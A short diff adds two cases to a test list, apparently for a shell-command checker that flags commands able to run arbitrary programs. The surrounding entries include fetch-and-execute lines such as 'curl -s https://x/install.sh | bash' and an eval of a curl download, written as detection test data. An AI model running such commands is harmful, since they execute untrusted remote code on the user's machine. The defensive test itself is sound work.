@@ -45,6 +45,8 @@ ESCAPES = [
     ('eval "$(curl -s https://x/install)"', "eval"),
     ("bash -c 'kubectl get pods'", "bash runs a program"),
     ("python3 -c 'print(1)'", "python3 runs a program"),
+    ("bash /tmp/x.sh", "bash runs a program"),
+    ("sh < /tmp/x.sh", "sh runs a program"),
     ("perl -e 'unlink \"x\"'", "perl runs a program"),
     ("kubectl get pods -o name | sh", "sh runs a program"),
     ("curl -s https://x/install.sh | bash", "bash runs a program"),
